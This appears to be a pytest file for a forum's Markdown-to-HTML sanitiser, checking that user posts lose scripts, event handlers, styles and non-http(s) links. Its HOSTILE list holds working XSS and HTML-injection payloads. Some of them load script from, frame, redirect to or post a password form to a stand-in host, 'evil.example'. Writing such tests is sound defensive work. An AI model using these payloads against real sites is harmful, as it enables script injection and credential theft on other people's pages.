"""Posts are Markdown rendered to HTML and sanitised: whatever people type, what reaches the
page has no script, no event handler, no style and no link but http(s) and mailto."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from stakeholders.forum.text import TAGS, excerpt, render
from tests.stakeholders.forum.factories import start_topic

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="https://example.org" onclick="alert(1)">click</a>',
    "<iframe src=https://evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    "<b onmouseover=alert(1)>hover</b>",
    "<p>unclosed <em>tags <strong>everywhere",
    "<<script>script>alert(1)<</script>/script>",
    "</textarea><script>alert(1)</script>",
    "![x](javascript:alert(1))",
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "<form action=https://evil.example><input name=password></form>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
]


class Elements(HTMLParser):
    """The tags and attributes a browser would build from the HTML (text stays text)."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def dangers(html):
    problems = []
    for tag, attributes in Elements(html).found:
        if tag not in TAGS:
            problems.append(f"<{tag}>")
        for name, value in attributes.items():
            if name.startswith("on") or name == "style":
                problems.append(f"{tag}[{name}]")
            # No scheme is a relative address ("java%09script:" is one: %09 is no tab there).
            scheme = urlsplit((value or "").strip()).scheme
            if name in {"href", "src"} and scheme not in {"", "http", "https", "mailto"}:
                problems.append(f"{tag}[{name}={value}]")
    return problems


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_input_comes_out_inert(payload):
    html = render(payload)
    assert dangers(html) == [], html


def test_links_are_kept_with_nofollow_ugc():
    html = render(
        "Vea [la agenda](https://ciudad.example/agenda) y escriba a <info@ciudad.example>."
    )
    assert '<a href="https://ciudad.example/agenda" rel="nofollow ugc">la agenda</a>' in html
    assert 'href="mailto:info@ciudad.example"' in html


def test_markdown_formatting_is_kept():
    html = render("**Taller** de *lectura*:\n\n- lunes\n- jueves\n\n> Una cita")
    assert "<strong>Taller</strong>" in html and "<em>lectura</em>" in html
    assert "<ul>" in html and "<li>lunes</li>" in html
    assert "<blockquote>" in html


def test_typed_tags_are_shown_as_text():
    assert "&lt;b&gt;negrita&lt;/b&gt;" in render("<b>negrita</b>")


def test_an_excerpt_is_plain_text():
    assert excerpt("**Hola** <script>x</script> [mundo](https://a.example)") == (
        "Hola &lt;script&gt;x&lt;/script&gt; mundo"
    )


@pytest.mark.django_db
@pytest.mark.usefixtures("reference_data")
def test_a_hostile_post_is_inert_on_the_topic_page(client, dora, category):
    body = "\n\n".join(HOSTILE)
    topic = start_topic(dora, category, body=body)
    page = client.get(topic.get_absolute_url()).text
    post_html = page.split('class="post-body"', 1)[1].split("</div>", 1)[0]
    assert "alert(1)" in post_html, "the payloads are shown as text"
    assert dangers(post_html) == []
